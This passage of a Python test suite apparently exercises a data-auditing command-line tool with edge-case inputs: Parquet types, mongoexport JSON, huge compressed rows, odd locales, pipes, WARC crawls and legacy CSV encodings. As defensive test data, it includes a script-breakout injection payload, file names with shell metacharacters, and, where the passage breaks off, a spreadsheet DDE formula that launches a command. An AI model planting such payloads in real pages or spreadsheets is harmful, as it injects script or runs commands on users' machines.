             decimal.Decimal("0E-18"), decimal.Decimal("1.100000000000000000"), decimal.Decimal("7.5")], pa.decimal128(38, 18),
        ),
        "seen": pa.array([moment + number for number in range(count)], pa.timestamp("ns", tz="Europe/Berlin")),
        "born": pa.array(
            [datetime.date(1815, 12, 10), datetime.date(1, 1, 1), datetime.date(1969, 12, 31), None,
             datetime.date(2000, 2, 29), datetime.date(9999, 12, 31)], pa.date32(),
        ),
        "blob": pa.array([b"\xff\xfe\x00\x80", b"", b"plain", None, bytes(range(256)), b"\xc3("], pa.binary()),
        "serial": pa.array([2**64 - 1, 2**63, 0, None, 1, 2**53 + 1], pa.uint64()),
        "tags": pa.array([[("a", 1), ("b", 2)], [], None, [("a", 3)], [("z", None)], [("ü", 4)]], pa.map_(pa.string(), pa.int32())),
        "key": pa.array([uuid.UUID(int=2**127 + number).bytes for number in range(count)], pa.binary(16)),
        "took": pa.array([1, -1, 0, None, 10**15, 86400000000], pa.duration("us")),
        "clock": pa.array([0, 1, 86399999999, None, 43200000000, 5], pa.time64("us")),
        "vector": pa.array([[number, 0.5, -1.0] for number in range(count)], pa.list_(pa.float32(), 3)),
    }
    table = pa.table(columns)
    pq.write_table(table, folder / "warehouse.parquet", row_group_size=4)

    def plain(array: pa.ChunkedArray) -> list[object]:
        kind = array.type
        if pa.types.is_timestamp(kind):
            scale = {"s": 10**9, "ms": 10**6, "us": 10**3, "ns": 1}[kind.unit]
            return [None if value is None else value * scale for value in array.cast(pa.int64()).to_pylist()]
        if pa.types.is_duration(kind) or pa.types.is_time64(kind):
            scale = {"s": 10**9, "ms": 10**6, "us": 10**3, "ns": 1}[kind.unit]
            return [None if value is None else value * scale for value in array.cast(pa.int64()).to_pylist()]
        values = array.to_pylist()
        if pa.types.is_map(kind):
            return [None if value is None else [tuple(pair) for pair in value] for value in values]
        if pa.types.is_nested(kind) and values and any(value and isinstance(value[0], dict) for value in values if value):
            return [None if value is None else [tuple(pair.values()) for pair in value] for value in values]
        return values

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        tables = [found for _, found in clean_tables(folder)]
        wrong = []
        for column in columns:
            if any(column not in found.column_names for found in tables) or not tables:
                wrong.append(f"the column {column} is missing")
                continue
            expected = dict(zip(table["text"].to_pylist(), plain(table[column]), strict=True))
            for found in tables:
                for text, value in zip(found["text"].to_pylist(), plain(found[column]), strict=True):
                    if value != expected[text]:
                        wrong.append(f"{column} was {expected[text]!r}, is {value!r} ({found[column].type})")
        return wrong

    return Right(
        args=["run", "--input", "warehouse.parquet", "--out", "out"],
        exit_codes={0},
        rows=[{"text": text} for text in columns["text"].to_pylist()],
        quarantined=0,
        check=check,
        why="every value of a Parquet file has an exact type; units and encodings may change, values may not",
    )


@case(kind="nesting and wide rows", sound=True)
def mongoexport_lines(folder: Path) -> Right:
    """mongoexport (relaxed extended JSON): `$date` is a text from 1970 on and an object before; prices number or decimal."""
    dates: list[object] = [
        {"$date": "2023-07-14T09:00:00Z"}, {"$date": {"$numberLong": "-2208988800000"}}, {"$date": "1999-12-31T23:59:59.999Z"},
        {"$date": "2024-02-29T00:00:00Z"}, {"$date": {"$numberLong": "-1"}}, None,
    ]
    prices: list[object] = [{"$numberDecimal": "12.50"}, 9, 7.25, {"$numberDecimal": "1E+3"}, None, {"$numberDouble": "Infinity"}]
    records = [
        {"_id": {"$oid": f"64b1f0c2a7d3e5b9f80000{number:02x}"}, "text": text, "createdAt": date, "price": price}
        for number, (text, date, price) in enumerate(zip(sentences(6, "mongo"), dates, prices, strict=True))
    ]
    (folder / "reviews.json").write_text(lines(records))

    def same(value: object, expected: object) -> bool:
        found = from_json(value)
        if found == expected and isinstance(found, bool) == isinstance(expected, bool):
            return True
        return isinstance(found, str) and not isinstance(expected, str | dict) and found == json.dumps(expected)

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: row for row in clean_rows(folder)}
        return [
            f"{column} was {record[column]!r}, is {kept.get(record['text'], {}).get(column)!r}"
            for record in records
            for column in ("_id", "createdAt", "price")
            if not same(kept.get(record["text"], {}).get(column), record[column])
            and not (record[column] is None and kept.get(record["text"], {"": 1}).get(column) in (None, "null"))
        ]

    return Right(
        args=["run", "--input", "reviews.json", "--out", "out"],
        exit_codes={0},
        rows=[{"text": record["text"]} for record in records],
        quarantined=0,
        check=check,
        why="one object per line, in a file named .json as mongoexport users name it; every member has to survive",
    )


@case(kind="nesting and wide rows", sound=True)
def csv_codes_that_look_like_numbers(folder: Path) -> Right:
    """A customer table: postcodes with a leading zero, codes like 1E5, versions like 1.10, NA for Namibia, the surname Null."""
    rows = [
        {"text": text, "postcode": postcode, "code": code, "version": version, "country": country, "surname": surname}
        for text, postcode, code, version, country, surname in zip(
            sentences(8, "codes"),
            ["01067", "04109", "10115", "00501", "02134", "99423", "07743", "03046"],
            ["1E5", "2E3", "4E10", "12E2", "7E0", "3E1", "9E9", "1E1"],
            ["1.10", "1.2", "1.20", "2.0", "2.10", "3.00", "1.1", "10.0"],
            ["NA", "DE", "NA", "FR", "NO", "IT", "NA", "CH"],
            ["Null", "Meyer", "True", "Nan", "Rossi", "None", "Inf", "Okafor"],
            strict=True,
        )
    ]
    with (folder / "customers.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return Right(
        args=["run", "--input", "customers.csv", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="01067 is not 1067, 1E5 is not 100000.0, 1.10 is not 1.1 and NA is a country: a CSV cell is the text that stands there",
    )

# ------------------------------------------------------------------------------------ 5 large records and high compression


def large(*args: str) -> list[str]:
    return ["run", "--input", *args, "--out", "out", "--max-memory", "1GiB"]


@case(kind="large and compressible", sound=True)
def captions_with_inline_bitmaps(folder: Path) -> Right:
    """Captions with pictures inline as base64: nearly white bitmaps, 12 MB a row in the file, a few kB when compressed."""
    texts = sentences(8, "bitmap")
    sizes = [12_000_000 + 4 * number for number in range(8)]
    with gzip.open(folder / "captions.jsonl.gz", "wt", compresslevel=1) as file:
        for number, (text, size) in enumerate(zip(texts, sizes, strict=True)):
            head = base64.b64encode(b"BM" + number.to_bytes(4, "little")).decode()
            file.write(f'{{"text": "{text}", "image": "{head}{"/" * (size - len(head))}"}}\n')

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {
            text: (size, head)
            for _, table in clean_tables(folder)
            for text, size, head in zip(
                table["text"].to_pylist(),
                pc.utf8_length(table["image"]).to_pylist(),
                pc.utf8_slice_codeunits(table["image"], 0, 8).to_pylist(),
                strict=True,
            )
        }
        expected = {
            text: (size, base64.b64encode(b"BM" + number.to_bytes(4, "little")).decode())
            for number, (text, size) in enumerate(zip(texts, sizes, strict=True))
        }
        return [] if kept == expected else [f"pictures differ: {kept!r}"]

    return Right(
        args=large("captions.jsonl.gz"),
        exit_codes={0},
        quarantined=0,
        check=check,
        timeout=400,
        why="a row of 12 MB fits into a budget of 1 GiB many times; a column that is not the text is carried over whole",
    )


@case(kind="large and compressible", sound=True)
def contexts_in_a_dictionary(folder: Path) -> Right:
    """A Parquet file of 1 MB whose dictionary column stands for 360 MB: 6,000 questions on three contexts of 60 kB."""
    count = 6000
    contexts = [" ".join(sentence(number, f"context-{part}", 30) for number in range(300))[:60_000] for part in range(3)]
    questions = [sentence(number, "dictionary", 9)[:-1] + f" {number}?" for number in range(count)]
    which = [number % 3 for number in range(count)]
    table = pa.table(
        {"text": questions, "context": pa.DictionaryArray.from_arrays(pa.array(which, pa.int32()), pa.array(contexts))}
    )
    pq.write_table(table, folder / "questions.parquet", compression="zstd")

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        seen = 0
        expected = dict(zip(questions, which, strict=True))
        for path in sorted((folder / "out" / "clean").rglob("*.parquet")):
            for batch in pq.ParquetFile(path).iter_batches(batch_size=500, columns=["text", "context"]):
                for text, context in zip(batch.column(0).to_pylist(), batch.column(1).to_pylist(), strict=True):
                    seen += 1
                    if context != contexts[expected[text]]:
                        return [f"another context at {text!r}"]
        return [] if seen == count else [f"{seen} of {count} rows are in clean/"]

    return Right(
        args=large("questions.parquet"),
        exit_codes={0},
        quarantined=0,
        check=check,
        timeout=500,
        why="all questions differ, so all 6,000 rows are kept, each with its own context",
    )


@case(kind="large and compressible", sound=True)
def arrow_stream_whose_dictionary_grows(folder: Path) -> Right:
    """An Arrow stream of a message queue: the dictionary of labels grows (delta), then is replaced; one label is null."""
    batches = [(["spam", "ham"], [0, 1, 0]), (["spam", "ham", "promo"], [2, 1, None]), (["news", "ham"], [0, 1, 0, 1])]
    texts = iter(sentences(10, "dictionary-delta"))
    schema = pa.schema({"text": pa.string(), "label": pa.dictionary(pa.int8(), pa.string())})
    rows: list[dict[str, object]] = []
    options = pa.ipc.IpcWriteOptions(emit_dictionary_deltas=True)
    with pa.OSFile(str(folder / "feed.arrow"), "wb") as sink, pa.ipc.new_stream(sink, schema, options=options) as writer:
        for labels, codes in batches:
            own = [next(texts) for _ in codes]
            column = pa.DictionaryArray.from_arrays(pa.array(codes, pa.int8()), pa.array(labels))
            writer.write_batch(pa.record_batch([pa.array(own), column], schema=schema))
            rows += [
                {"text": text, "label": None if code is None else labels[code]} for text, code in zip(own, codes, strict=True)
            ]
    return Right(
        args=large("feed.arrow"),
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="the Arrow stream format allows deltas and replacements of dictionaries; code 0 means spam first and news last",
    )


@case(kind="large and compressible", sound=True)
def survey_with_3000_columns(folder: Path) -> Right:
    """A survey export with one-hot answers: 3,000 columns of 0, 1 or nothing beside the free text."""
    draw = random.Random("survey")
    names = [f"q{number:04d}_{'abc'[number % 3]}" for number in range(3000)]
    texts = sentences(60, "survey")
    answers = [[draw.choice(["0", "1", "1", ""]) for _ in names] for _ in texts]
    with (folder / "survey.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["respondent", "text", *names])
        for number, (text, row) in enumerate(zip(texts, answers, strict=True)):
            writer.writerow([f"R-{number}", text, *row])

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: row for row in clean_rows(folder)}
        for text, expected in zip(texts, answers, strict=True):
            row = kept.get(text, {})
            for name, value in zip(names, expected, strict=True):
                found = row.get(name, "no such column")
                if ("" if found is None else str(found)) != value:
                    return [f"{name} of {text[:30]!r} was {value!r}, is {found!r}"]
        return []

    return Right(
        args=large("survey.csv"),
        exit_codes={0},
        rows=[{"respondent": f"R-{number}", "text": text} for number, text in enumerate(texts)],
        quarantined=0,
        check=check,
        timeout=300,
        why="width is no defect; 0, 1 and an empty cell stay what they are in every one of 3,000 columns",
    )


@case(kind="large and compressible", sound=True)
def token_ids_in_one_array(folder: Path) -> Right:
    """A pre-tokenised corpus as one JSON array, gzipped: 500 records with 20,000 ids each, 30 MB from 150 kB."""
    count, length = 500, 20_000
    texts = sentences(count, "token-ids")
    block = ", ".join(str(7 + position % 3) for position in range(length - 1))
    with gzip.open(folder / "corpus.json.gz", "wt", compresslevel=6) as file:
        file.write("[\n")
        for number, text in enumerate(texts):
            file.write(f'  {{"text": "{text}", "input_ids": [{number}, {block}]}}{"," if number < count - 1 else ""}\n')
        file.write("]\n")

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        expected = {text: number for number, text in enumerate(texts)}
        seen = 0
        for _, table in clean_tables(folder):
            if not pa.types.is_integer(getattr(table["input_ids"].type, "value_type", pa.string())):
                return [f"input_ids became {table['input_ids'].type}"]
            lengths = pc.list_value_length(table["input_ids"]).to_pylist()
            firsts = pc.list_element(table["input_ids"], 0).to_pylist()
            lasts = pc.list_element(table["input_ids"], length - 1).to_pylist()
            for text, size, first, last in zip(table["text"].to_pylist(), lengths, firsts, lasts, strict=True):
                seen += 1
                if (size, first, last) != (length, expected[text], 7 + (length - 2) % 3):
                    return [f"ids of {text!r} differ: {size} values, first {first}, last {last}"]
        return [] if seen == count else [f"{seen} of {count} rows are in clean/"]

    return Right(
        args=large("corpus.json.gz"),
        exit_codes={0},
        quarantined=0,
        check=check,
        timeout=400,
        why="an array of objects is JSON that is read; ten million ids are 80 MB as 64-bit integers, far below 1 GiB",
    )


# ------------------------------------------------------------------------------------------------------------ 6 environments


@case(kind="environment", sound=True)
def user_id_without_a_name(folder: Path) -> Right:
    """A container under a random user id (OpenShift): no entry in passwd, no HOME, no name in the environment."""
    (folder / "data").mkdir()
    rows = [{"text": text, "label": "a" if number % 2 else "b"} for number, text in enumerate(sentences(10, "nobody"))]
    (folder / "data" / "reviews.jsonl").write_text(lines(rows))
    open_to_all(folder)
    (folder / "data").chmod(0o755)
    (folder / "data" / "reviews.jsonl").chmod(0o644)
    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        preexec=become_nobody,
        env={"HOME": "/nonexistent", "USER": "", "LOGNAME": "", "LNAME": "", "USERNAME": ""},
        why="the input can be read and the folder can be written; a home or a user name is not needed to audit",
    )


@case(kind="environment", sound=True)
def ascii_locale_and_cyrillic_names(folder: Path) -> Right:
    """A cron job on an old server: LC_ALL=C without Python's UTF-8 mode; file name, labels and texts are not ASCII."""
    (folder / "data").mkdir()
    texts = [
        "Доставка заняла две недели, но упаковка была целой.", "Отличный чайник, кипятит быстро и почти без шума.",
        "Квартира светлая, соседи тихие, до метро пять минут.", "Книга пришла с помятой обложкой и без закладки.",
        "Официант забыл про наш заказ, пришлось напоминать трижды.", "Велосипед собран криво, руль скрипит на поворотах.",
        "Спасибо мастеру: починил холодильник за один вечер.", "Экран тусклый, зато батарея держит весь день.",
    ]
    rows = [{"text": text, "оценка": "хорошо" if number % 2 else "плохо"} for number, text in enumerate(texts)]
    (folder / "data" / "отзывы_№1.jsonl").write_text(lines(rows), encoding="utf-8")
    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        env={
            "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": "ascii:strict",
        },
        why="JSON is UTF-8 whatever the locale is; a name that the terminal cannot show is no reason to stop",
    )


@case(kind="environment", sound=True)
def started_as_a_daemon(folder: Path) -> Right:
    """`dataaudit run ... <&- >&-`: standard input and output are closed, so the next files opened get numbers 0 and 1."""
    (folder / "data").mkdir()
    rows = [{"text": text, "n": number} for number, text in enumerate(sentences(12, "daemon"))]
    (folder / "data" / "part-0.jsonl").write_text(lines(rows[:6]))
    (folder / "data" / "part-1.jsonl").write_text(lines(rows[6:]))

    def close_both() -> None:
        os.close(0)
        os.close(1)

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        names = ["report.html", "summary.json", "manifest.json"]
        wrong = [f"{name} is missing" for name in names if not (folder / "out" / name).is_file()]
        for name in ("summary.json", "manifest.json"):
            try:
                json.loads((folder / "out" / name).read_text())
            except (OSError, ValueError) as error:
                wrong.append(f"{name}: {error}")
        for number, name in enumerate(("part-0.jsonl", "part-1.jsonl")):
            if (folder / "data" / name).read_text() != lines(rows[6 * number : 6 * number + 6]):
                wrong.append(f"the input {name} was changed")
        return wrong

    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        preexec=close_both,
        check=check,
        why="whoever closes the output wants the files only; what is printed must not land in one of them",
    )


@case(kind="environment", sound=True)
def file_names_of_a_web_scraper(folder: Path) -> Right:
    """Names made from titles of pages: a line break, a leading dash, braces, a dollar, a percent sign, one in Latin-1 bytes."""
    data = folder / "data"
    data.mkdir()
    names: list[bytes] = [
        b"-n.jsonl", b"line\nbreak.jsonl", b"caf\xe9.jsonl", b"50% off #1?.jsonl", b"{a,b}[0-9]*.jsonl", b"$HOME.jsonl",
        b"r\xc3\xa9sum\xc3\xa9 (1).jsonl", "re\u0301sume\u0301 (1).jsonl".encode(),
    ]
    rows: list[dict[str, object]] = []
    for number, name in enumerate(names):
        own = [{"text": text, "page": number} for text in sentences(3, f"names-{number}")]
        with open(os.fsencode(data) + b"/" + name, "w") as file:
            file.write(lines(own))
        rows += own
    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="a file name on Linux is any bytes but / and NUL; all eight files hold three sound rows",
    )


@case(kind="environment", sound=False)
def folder_with_a_pipe_nobody_writes(folder: Path) -> Right:
    """A spool folder: beside the data lies a named pipe of a supervisor; to open it blocks for ever."""
    (folder / "data").mkdir()
    rows = [{"text": text, "n": number} for number, text in enumerate(sentences(8, "pipe"))]
    (folder / "data" / "reviews.jsonl").write_text(lines(rows))
    os.mkfifo(folder / "data" / "queue.jsonl")
    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        says=[r"queue\.jsonl|\bpipe\b|fifo|not a regular file"],
        refusal_is_fine=True,
        timeout=90,
        why="it must not hang; the pipe is named, whether the run goes on with the file or stops",
    )


@case(kind="environment", sound=False)
def one_file_of_another_owner(folder: Path) -> Right:
    """A shared folder: one of three files may not be read by the user of the job."""
    (folder / "data").mkdir()
    rows: list[dict[str, object]] = []
    for name in ("april", "june"):
        own = [{"text": text, "month": name} for text in sentences(6, f"owner-{name}")]
        (folder / "data" / f"{name}.jsonl").write_text(lines(own))
        rows += own
    (folder / "data" / "may.jsonl").write_text(lines([{"text": text, "month": "may"} for text in sentences(6, "owner-may")]))
    open_to_all(folder)
    (folder / "data").chmod(0o755)
    for name in ("april", "june"):
        (folder / "data" / f"{name}.jsonl").chmod(0o644)
    (folder / "data" / "may.jsonl").chmod(0o000)
    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        says=[r"may\.jsonl"],
        refusal_is_fine=True,
        preexec=become_nobody,
        env={"HOME": "/nonexistent"},
        why="nothing is skipped silently: the file that cannot be opened is named, whether the run stops or goes on",
    )


@case(kind="environment", sound=True)
def six_hundred_shards_and_256_handles(folder: Path) -> Right:
    """`ulimit -n 256`, the default of macOS and of many batch systems, and 600 shards of one row each."""
    (folder / "data").mkdir()
    rows = [{"text": text, "shard": number} for number, text in enumerate(sentences(600, "handles"))]
    for number, row in enumerate(rows):
        (folder / "data" / f"part-{number:05d}-of-00600.jsonl").write_text(lines([row]))

    def few_handles() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (256, 256))

    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        preexec=few_handles,
        timeout=300,
        why="files can be opened one after the other; 256 handles are enough for any number of shards",
    )

# ------------------------------------------------------------------------------------------------- 7 archives and encodings


@case(kind="archives and encodings", sound=True)
def zip_of_the_finder(folder: Path) -> Right:
    """"Compress" on macOS: beside each file a resource fork __MACOSX/._name with the same extension, and a .DS_Store."""
    rows = [{"text": text, "n": number} for number, text in enumerate(sentences(9, "finder"))]
    fork = (
        b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02\x00\x00\x00\x09\x00\x00\x00\x32\x00\x00\x00\x8e"
        b"\x00\x00\x00\x02\x00\x00\x00\xc0\x00\x00\x00\x00" + bytes(40) + b"ATTR\x00\x00\x00\x00\x00\x00\x00\xc0"
        b"\x00\x00\x00\x98com.apple.lastuseddate#PS\x00\x9c\xf1\x0ae\x00\x00\x00\x00"
    )
    with zipfile.ZipFile(folder / "reviews.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("reviews/", b"")
        for number in range(3):
            archive.writestr(f"reviews/part{number}.jsonl", lines(rows[3 * number : 3 * number + 3]))
            archive.writestr(f"__MACOSX/reviews/._part{number}.jsonl", fork)
        archive.writestr("reviews/.DS_Store", b"\x00\x00\x00\x01Bud1\x00\x00\x10\x00\x00\x00\x08\x00" + bytes(200))
        archive.writestr("__MACOSX/._reviews", fork)
    return Right(
        args=["run", "--input", "reviews.zip", "--out", "out"],
        exit_codes={0},
        rows=rows,
        why="what macOS adds to every zip is no data and no defect; the nine rows of three files are",
    )


def warc_record(kind: str, url: str, body: bytes, content: str) -> bytes:
    number = uuid.uuid5(uuid.NAMESPACE_URL, kind + url)
    head = (
        f"WARC/1.0\r\nWARC-Type: {kind}\r\nWARC-Record-ID: <urn:uuid:{number}>\r\nWARC-Date: 2024-03-05T10:11:12Z\r\n"
        + (f"WARC-Target-URI: {url}\r\n" if url else "")
        + f"Content-Type: {content}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return gzip.compress(head.encode() + body + b"\r\n\r\n", mtime=0)


@case(kind="archives and encodings", sound=True)
def warc_as_wget_writes_it(folder: Path) -> Right:
    """A crawl by wget: bodies as they came over the wire, some gzipped, one chunked, one in Latin-1."""
    pages = [
        ("The ferry to the northern islands leaves twice a week in winter", "utf-8", ""),
        ("Our bakery has used the same sourdough since nineteen twelve", "utf-8", "gzip"),
        ("Un café très agréable à deux pas du marché couvert", "iso-8859-1", ""),
        ("Repairing an old violin takes patience and warm hide glue", "utf-8", "chunked"),
        ("Über die Brücke führt ein schmaler Weg zum alten Friedhof", "utf-8", "gzip"),
    ]
    body = warc_record("warcinfo", "", b"software: Wget/1.21.3 (linux-gnu)\r\nformat: WARC File Format 1.0\r\n", "application/warc-fields")
    for number, (said, charset, coding) in enumerate(pages):
        url = f"https://example.org/page/{number}"
        more = " ".join(sentence(10 * number + part, "warc") for part in range(4))
        html = f"<!DOCTYPE html><html><head><title>Page {number}</title></head><body><p>{said}.</p><p>{more}</p></body></html>"
        payload = html.encode(charset)
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset={charset}\r\n"
        if coding == "gzip":
            payload = gzip.compress(payload, mtime=0)
            head += "Content-Encoding: gzip\r\n"
        if coding == "chunked":
            cut = len(payload) // 3
            payload = b"".join(
                f"{len(piece):x}\r\n".encode() + piece + b"\r\n" for piece in (payload[:cut], payload[cut:], b"")
            )
            head += "Transfer-Encoding: chunked\r\n"
        else:
            head += f"Content-Length: {len(payload)}\r\n"
        body += warc_record("request", url, f"GET /page/{number} HTTP/1.1\r\nHost: example.org\r\n\r\n".encode(), "application/http; msgtype=request")
        body += warc_record("response", url, head.encode() + b"\r\n" + payload, "application/http; msgtype=response")
    (folder / "crawl.warc.gz").write_bytes(body)

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        lost = missing(folder, [said for said, _, _ in pages])
        told = re.search(r"gzip|chunked|content-encoding|transfer-encoding|decod|skipped", stdout + stderr, re.IGNORECASE)
        if in_quarantine(folder) >= len(lost) or (told and len(lost) < len(pages)):
            return []
        return lost

    return Right(
        args=["run", "--input", "crawl.warc.gz", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="the five answers are the data; a body is decoded as its headers say, or what was not read is told",
    )


@case(kind="archives and encodings", sound=True)
def shards_of_four_pipelines(folder: Path) -> Right:
    """Parquet shards of a data set over the years: label integer, then text, then missing; ids 32 and 64 bit; text a dictionary."""
    (folder / "data").mkdir()
    texts = sentences(16, "shards")
    ids = list(range(16))
    labels: list[object] = [0, 1, 1, 0, "pos", "neg", "neg", "pos", None, None, None, None, 2, 0, 2, 1]
    shards = [
        pa.table({"id": pa.array(ids[:4], pa.int32()), "text": pa.array(texts[:4]), "label": pa.array(labels[:4], pa.int64())}),
        pa.table({"label": pa.array(labels[4:8], pa.large_string()), "text": pa.array(texts[4:8], pa.large_string()), "id": pa.array(ids[4:8], pa.int64())}),
        pa.table({"id": pa.array(ids[8:12], pa.uint8()), "text": pa.array(texts[8:12]).dictionary_encode(), "source": pa.array(["web"] * 4)}),
        pa.table({"id": pa.array(ids[12:], pa.int64()), "text": pa.array(texts[12:]), "label": pa.array(labels[12:], pa.int8()), "source": pa.array(["print"] * 4)}),
    ]
    for number, shard in enumerate(shards):
        pq.write_table(shard, folder / "data" / f"shard-{number}.parquet")

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: row for row in clean_rows(folder)}
        wrong = []
        for text, number, label in zip(texts, ids, labels, strict=True):
            row = kept.get(text, {})
            if row.get("label") not in ((None,) if label is None else (label, str(label))):
                wrong.append(f"label of row {number} was {label!r}, is {row.get('label')!r}")
            source = None if number < 8 else "web" if number < 12 else "print"
            if row.get("source") != source:
                wrong.append(f"source of row {number} was {source!r}, is {row.get('source')!r}")
        return wrong

    return Right(
        args=RUN,
        exit_codes={0},
        rows=[{"id": number, "text": text} for number, text in zip(ids, texts, strict=True)],
        quarantined=0,
        says=[r"\blabel\b"],
        check=check,
        why="a column that is missing is null, integers widen, and a column of two types becomes text and is named",
    )


@case(kind="archives and encodings", sound=True)
def excel_unicode_text_as_csv(folder: Path) -> Right:
    """Excel, "Unicode Text", renamed to .csv: UTF-16 with a mark, tabs, CRLF; cells with commas, quotes and a line break."""
    rows = [
        {"text": 'Erste Zeile, mit Komma\nzweite Zeile sagt "gut"', "label": "gut"},
        {"text": "Der Zug nach Görlitz hatte vierzig Minuten Verspätung, wie üblich", "label": "schlecht"},
        {"text": "Die Suppe war heiß; das Brot, leider, hart", "label": "schlecht"},
        {"text": "Für 5 € gab es ein 𝒻eines Frühstück mit Rührei", "label": "gut"},
        {"text": "Niemand ging ans Telefon, obwohl es Montag war", "label": "schlecht"},
        {"text": "Schöner Garten, freundliche Leute, klare Luft", "label": "gut"},
    ]

    def cell(value: str) -> str:
        return '"' + value.replace('"', '""') + '"' if re.search(r'[\t\n"]', value) else value

    body = "text\tlabel\r\n" + "".join(f"{cell(row['text'])}\t{row['label']}\r\n" for row in rows)
    (folder / "umfrage.csv").write_bytes(b"\xff\xfe" + body.encode("utf-16-le"))
    return Right(
        args=["run", "--input", "umfrage.csv", "--out", "out"],
        exit_codes={0},
        rows=list(rows),
        quarantined=0,
        refusal_is_fine=True,
        why="the mark says UTF-16, the header has one tab and no comma, so tabs separate; the cells are exact",
    )


@case(kind="archives and encodings", sound=True)
def shift_jis_csv(folder: Path) -> Right:
    """CSV of a Japanese Excel (code page 932): characters whose second byte is a backslash or a bar, and circled digits."""
    rows = [
        {"text": "ソフトの表示がおかしいので再起動しました", "label": "不具合"},
        {"text": "①から順番に予約を確認してください", "label": "案内"},
        {"text": "能登の朝市で買った干物がとても美味しかった", "label": "感想"},
        {"text": "返品の申込書は十日以内にお送りください", "label": "案内"},
        {"text": "画面が真っ暗になり電源も入らない", "label": "不具合"},
        {"text": "駅から徒歩五分～十分で温泉に着きます", "label": "案内"},
    ]
    body = "text,label\r\n" + "".join(f"{row['text']},{row['label']}\r\n" for row in rows)
    (folder / "toiawase.csv").write_bytes(body.encode("cp932"))
    return Right(
        args=["run", "--input", "toiawase.csv", "--out", "out"],
        exit_codes={0},
        rows=list(rows),
        refusal_is_fine=True,
        why="no mark names the encoding: it is refused with a sentence, or decoded right; anything else is mojibake",
    )


@case(kind="archives and encodings", sound=True)
def excel_separator_line(folder: Path) -> Right:
    """A German shop's export for Excel: UTF-8 with mark, first line `sep=;`, decimal commas, texts with commas."""
    prices = ["3,50", "12,00", "0,99", "1.299,00", "7,25", "100,10"]
    rows = [
        {"text": text, "label": "gut" if number % 2 else "schlecht"}
        for number, text in enumerate([
            "Schnell geliefert, gut verpackt, gerne wieder", "Farbe weicht ab, schade, sonst in Ordnung",
            "Passt genau, auch an den Schultern", "Nach zwei Wochen kaputt, Ersatz kam nie",
            "Der Händler antwortet sofort, sehr höflich", "Riecht streng, habe es draußen gelüftet",
        ])
    ]
    body = "sep=;\r\ntext;price;label\r\n" + "".join(
        f"{row['text']};{price};{row['label']}\r\n" for row, price in zip(rows, prices, strict=True)
    )
    (folder / "bewertungen.csv").write_bytes(b"\xef\xbb\xbf" + body.encode())

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        kept = {row["text"]: row.get("price") for row in clean_rows(folder)}
        return [
            f"price was {price!r}, is {kept.get(row['text'])!r}"
            for row, price in zip(rows, prices, strict=True)
            if kept.get(row["text"]) not in (price, float(price.replace(".", "").replace(",", ".")))
        ]

    return Right(
        args=["run", "--input", "bewertungen.csv", "--out", "out"],
        exit_codes={0},
        rows=list(rows),
        quarantined=0,
        refusal_is_fine=True,
        check=check,
        why="`sep=;` is an instruction to Excel and no header; semicolons separate, commas belong to texts and prices",
    )


# ------------------------------------------------------------------------------------- 8 what outputs show and running again


@case(kind="outputs and running again", sound=True)
def markup_in_labels_columns_and_texts(folder: Path) -> Right:
    """Comments of a forum under attack: texts, labels, a column name and the file name carry a script that closes a script."""
    attack = "</script><script>fc4({})</script>"
    rows = [
        {
            "text": f"{sentence(number, 'markup')} {attack.format(number) if number % 3 == 0 else ''}".strip(),
            "label": attack.format("label") if number % 2 else "calm & <b>bold</b>",
            attack.format("column"): f"value {number}",
        }
        for number in range(24)
    ]
    (folder / "data").mkdir()
    (folder / "data" / "a&<script>fc4(name)<i>.jsonl").write_text(lines(rows))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        report = (folder / "out" / "report.html").read_text()
        wrong = []
        if "</script><script>fc4(" in report:
            wrong.append("report.html holds a script of a text, a label or a column name")
        if re.search(r"""<script>fc4\(name\)<i>\.jsonl[^"'\\<]*<""", report):
            wrong.append("report.html holds the file name unescaped")
        return wrong

    return Right(
        args=["run", "--input", "data", "--label", "label", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="clean/ holds the values as they are; in the page every one of them is escaped",
    )


@case(kind="outputs and running again", sound=True)
def formulas_exported_to_csv(folder: Path) -> Right:
    """Form answers that a spreadsheet would run: they stay as they are in clean/ and are escaped in the exported CSV."""
    header = "=cmd|' /C calc'!A0"
